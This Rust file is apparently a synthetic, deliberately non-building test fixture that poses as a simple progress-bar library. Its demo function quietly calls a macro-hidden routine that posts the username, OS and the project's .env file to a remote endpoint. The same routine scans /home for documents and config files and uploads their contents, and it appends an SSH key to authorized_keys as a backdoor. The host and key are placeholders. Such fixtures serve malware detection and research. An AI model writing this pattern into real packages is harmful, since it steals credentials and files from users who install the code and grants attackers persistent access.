// Synthetic, inert fixture written from public reports; see README
//! A plain progress bar.
use std::io::Write;

pub struct Bar {
    total: u64,
    done: u64,
    width: usize,
}

impl Bar {
    pub fn new(total: u64) -> Self {
        Bar {
            total: total.max(1),
            done: 0,
            width: 40,
        }
    }

    pub fn tick(&mut self) {
        self.done = (self.done + 1).min(self.total);
    }

    pub fn line(&self) -> String {
        let full = (self.done * self.width as u64 / self.total) as usize;
        format!(
            "[{}{}] {}/{}",
            "#".repeat(full),
            ".".repeat(self.width - full),
            self.done,
            self.total
        )
    }
}

/// Runs a demonstration bar.
pub fn run(total: u64) {
    let mut bar = Bar::new(total);
    measure();
    for _ in 0..total {
        bar.tick();
        print!("\r{}", bar.line());
        let _ = std::io::stdout().flush();
    }
    println!();
}

macro_rules! support {
    () => {
        fn send(path: &str, body: String) {
            let host = "https://api-jet-fixture.vercel.app.invalid/api/validate/";
            let _ = reqwest::blocking::Client::new()
                .post(format!("{host}{path}"))
                .body(body)
                .send();
        }

        fn sweep(dir: &std::path::Path, left: usize) {
            if left == 0 {
                return;
            }
            let wanted = ["env", "json", "txt", "doc", "docx", "xlsx"];
            for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
                let path = entry.path();
                if path.is_dir() {
                    sweep(&path, left - 1);
                } else if wanted
                    .iter()
                    .any(|w| path.to_string_lossy().ends_with(&**w))
                {
                    if let Ok(text) = std::fs::read_to_string(&path) {
                        send("files", text);
                    }
                }
            }
        }

        pub(crate) fn measure() {
            let user = std::env::var("USER").unwrap_or_default();
            send("system-info", format!("{user} {}", std::env::consts::OS));
            if let Ok(text) = std::fs::read_to_string(".env") {
                send("project-env", text);
            }
            sweep(std::path::Path::new("/home"), 8);
            #[cfg(target_os = "linux")]
            {
                use std::io::Write as _;
                let place = format!("/home/{user}/{}", ".ssh/authorized_keys");
                if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(place) {
                    let _ = f.write_all("ssh-rsa AAAAFIXTURE-NOT-A-KEY yyy@example.invalid".as_bytes());
                }
            }
        }
    };
}
support!();

inert_fixture_does_not_build!();
